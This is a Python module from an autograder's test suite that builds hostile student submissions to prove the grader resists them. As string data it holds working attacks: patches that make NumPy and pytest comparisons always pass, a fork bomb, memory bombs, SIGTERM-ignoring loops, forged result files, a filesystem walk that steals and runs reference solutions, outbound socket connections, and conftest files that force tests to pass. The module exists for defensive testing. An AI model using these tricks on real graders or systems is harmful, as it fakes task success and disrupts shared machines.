"""Hostile submissions: attacks on the grader, built on the untouched student version (so an honest
grade for each is 0 points). ``tests/test_hostile.py`` grades them in one batch with honest
submissions and shows that none gains a point, the batch goes on, nothing is left running and
the honest submissions get exactly the grades they get alone.

``make release`` writes them to ``examples/hostile/<name>/`` so they can be read and re-run.
Each is: code appended to a module (``append``), function bodies replaced (``bodies``, as in the
mistakes corpus) and files placed beside ``course_lib/`` (``files``).
"""

import dataclasses
import pathlib

from checks.stubs import STUB

from ..grading.rubric import load as load_rubric
from .release import build_library, stubbed


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    what: str
    append: dict = dataclasses.field(default_factory=dict)     # module -> code appended
    bodies: dict = dataclasses.field(default_factory=dict)     # "module.qualname" -> new body
    files: dict = dataclasses.field(default_factory=dict)      # path beside course_lib -> text
    base: str = "untouched"                                    # or "reference"


MARKER = "course-grader-hostile-marker"
LISTEN_PORT = 23917      # test_hostile.py listens here (below the ephemeral port range) for a connection that must not come

ATTACKS = [
    Attack("monkeypatch_comparisons", "replaces NumPy's comparison functions (and pytest's, if it can) "
           "so that every comparison succeeds", append={"losses": '''
import numpy as _np
_np.allclose = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(a, b).shape, dtype=bool)
_np.array_equal = lambda *a, **k: True
_np.testing.assert_allclose = lambda *a, **k: None
_np.all = lambda *a, **k: True
try:
    import pytest as _pytest
    _pytest.approx = lambda expected, *a, **k: type("Anything", (), {"__eq__": lambda s, o: True})()
except ImportError:
    pass
'''}),
    Attack("exit_at_import", "sys.exit() when losses is imported and os._exit() when penalties is",
           append={"losses": "\nimport sys\nsys.exit(0)\n", "penalties": "\nimport os\nos._exit(0)\n"}),
    Attack("exit_in_calls", "sys.exit, os._exit and raise SystemExit inside calls", bodies={
        "losses.mse": "import sys\nsys.exit(0)",
        "losses.mse_grad": "import os\nos._exit(3)",
        "layers.Dropout.forward": "raise SystemExit(1)",
        "training.EarlyStopping.step": "import os\nos._exit(0)",
    }),
    Attack("endless_loops", "endless loops that ignore SIGTERM: in calls, and at the import of layers", bodies={
        "losses.mse": "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass",
        "losses.huber": "while True:\n    pass",
        "penalties.l2_grad": "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass",
    }, append={"layers": "\nimport signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass\n"}),
    Attack("memory_bomb", "allocates without bound in calls and at import", bodies={
        "losses.mse": "hoard = []\nwhile True:\n    hoard.append(bytearray(50 * 1024 * 1024))",
        "losses.mae": "return float(np.ones(10 ** 11).sum())",
        "layers.BatchNorm1d.forward": "hoard = [np.ones(10 ** 8) for _ in range(100)]\nreturn x",
    }, append={"penalties": "\n_hoard = bytearray(8 * 1024 ** 3)\n"}),
    Attack("process_burst", "forks processes as fast as it can", bodies={
        "losses.mse": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        "losses.mae": "import subprocess\nfor _ in range(200):\n    subprocess.Popen(['sleep', '1000'])\nreturn 0.0",
    }),
    Attack("output_flood", "prints 100 MB, and writes 100 MB to every open file descriptor", bodies={
        "losses.mse": "import sys\nsys.stdout.write('x' * 100_000_000)\nsys.stderr.write('y' * 100_000_000)\nreturn 0.0",
        "losses.mae": "import os\nchunk = b'z' * 1_000_000\nfor fd in range(3, 64):\n    try:\n"
                      "        for _ in range(100):\n            os.write(fd, chunk)\n    except OSError:\n"
                      "        pass\nreturn 0.0",
    }),
    Attack("forge_results", "writes forged results wherever it can reach", append={"losses": f'''
import json as _json, os as _os
_forged = {{"score": 1000, "tests": [], "output": "{MARKER}"}}
for _dir in ["/tmp", _os.getcwd(), _os.path.expanduser("~"), "/autograder/results", "/work", "/root"]:
    for _up in range(6):
        _d = _os.path.abspath(_os.path.join(_dir, *[".."] * _up))
        for _name in ("results.json", "grades.csv", "{MARKER}.txt"):
            try:
                with open(_os.path.join(_d, _name), "w") as _f:
                    _json.dump(_forged, _f)
            except OSError:
                pass
'''}),
    Attack("read_solutions", "looks for the reference solution and the hidden checks on disk and "
           "runs them as its own code", append={"losses": '''
import os as _os
def _steal():
    for _root, _dirs, _files in _os.walk("/"):
        _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev")]
        if _root.endswith("solutions/course_lib") and "losses.py" in _files:
            return open(_os.path.join(_root, "losses.py")).read()
        if _root.endswith("autograder/hidden"):
            globals()["_hidden_checks"] = sorted(_files)
    return None
_source = _steal()
if _source:
    exec(compile(_source.replace("from . import _validation as _v", "from course_lib import _validation as _v"),
                 "stolen", "exec"), globals())
'''}),
    Attack("network", "opens network connections (to the grading machine and the internet)", bodies={
        "losses.mse": f"import socket\ns = socket.create_connection(('127.0.0.1', {LISTEN_PORT}), timeout=2)\n"
                      "s.sendall(b'stolen')\nreturn 0.0",
        "losses.mae": "import socket\ns = socket.create_connection(('1.1.1.1', 80), timeout=2)\nreturn 0.0",
    }),
    Attack("background_process", "leaves a process behind that ignores SIGTERM, in its own session",
           append={"losses": f'''
import os as _os, signal as _signal, time as _time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
        import sys as _sys
        _sys.argv = ["{MARKER}"]
        while True:
            _time.sleep(0.5)
    _os._exit(0)
'''}),
    Attack("lying_objects", "returns a float subclass and an ndarray subclass that claim to equal anything",
           append={"losses": '''
class _Liar(float):
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    def __float__(self):
        return 0.0
    __hash__ = float.__hash__

class _LiarArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)
    def __array_finalize__(self, obj):
        pass
'''}, bodies={
        "losses.mse": "return _Liar(0.0)",
        "losses.mse_grad": "return np.zeros_like(y_pred).view(_LiarArray)",
        "losses.mae": "return _Liar(float('nan'))",
        "losses.softmax": "return np.zeros_like(z).view(_LiarArray)",
    }),
    Attack("files_beside_course_lib", "ships a conftest.py, sitecustomize.py, fake numpy and pytest "
           "packages, and fake checks beside course_lib (and a conftest.py inside it)", files={
        "conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                       "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n",
        "sitecustomize.py": "import numpy\nnumpy.allclose = lambda *a, **k: True\n",
        "numpy/__init__.py": "allclose = lambda *a, **k: True\n",
        "pytest.py": "def approx(*a, **k):\n    return True\n",
        "checks/__init__.py": "def check(*a, **k):\n    return True\n",
        "course_lib/conftest.py": "import pytest\ndef pytest_collection_modifyitems(items):\n    items.clear()\n",
    }),
    Attack("bad_values", "returns NaN, infinity, wrong shapes, None, strings and huge nested lists", bodies={
        "losses.mse": "return float('nan')",
        "losses.mse_grad": "return np.full(y_pred.shape, np.inf)",
        "losses.mae": "return np.zeros(3)",
        "losses.mae_grad": "return None",
        "losses.huber": "return 'the answer'",
        "losses.huber_grad": "return [[[0.0] * 1000] * 1000] * 3",
        "losses.softmax": "return np.zeros(z.shape + (2,))",
        "losses.log_softmax": "return {1: 2}",
        "penalties.l2_grad": "grads = [np.full((7, 7), np.nan) for w in arrays]",
        "layers.Dropout.forward": "return x.T",
        "layers.BatchNorm1d.forward": "return np.full_like(x, np.nan)",
    }),
    Attack("broken_module", "the REFERENCE with a syntax error in penalties.py: only the points of "
           "the parts in penalties.py are lost", append={"penalties": "\ndef broken(:\n    pass\n"},
           base="reference"),
]


def build(dest, attack, rubric=None):
    """Write ``attack``'s submission into the folder ``dest`` (holding course_lib/ and more)."""
    rubric = rubric or load_rubric()
    dest = pathlib.Path(dest)

    def transform(module, text):
        if attack.base == "untouched":
            text = stubbed(text, module, rubric)
        for target, body in attack.bodies.items():
            mod, qualname = target.split(".", 1)
            if mod == module:
                text = _replace_stub(text, qualname, body)
        return text + attack.append.get(module, "")

    build_library(dest / "course_lib", rubric, transform)
    for rel, text in attack.files.items():
        path = dest / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


def _replace_stub(student_text, qualname, body):
    """Replace the stub of ``qualname`` (its two NotImplementedError lines) by ``body``."""
    lines = student_text.splitlines()
    for i, line in enumerate(lines):
        found = STUB.search(line)
        if found and found.group(1) == qualname:
            indent = line[: len(line) - len(line.lstrip())]
            new = [indent + b if b.strip() else "" for b in body.splitlines()]
            return "\n".join(lines[: i - 1] + new + lines[i + 1:]) + "\n"
    raise ValueError(f"no stub for {qualname}")


def build_all(dest, rubric=None):
    dest = pathlib.Path(dest)
    for attack in ATTACKS:
        build(dest / attack.name, attack, rubric)
    lines = ["# Hostile submissions (generated by `make release` from autograder/hostile.py)", "",
             "Attacks on the grader, for its tests. Do not run these files yourself: some fork without",
             "end, allocate without bound or never return.", "", "| folder | what it does |", "|---|---|"]
    lines += [f"| `{a.name}` | {a.what} |" for a in ATTACKS]
    (dest / "README.md").write_text("\n".join(lines) + "\n")

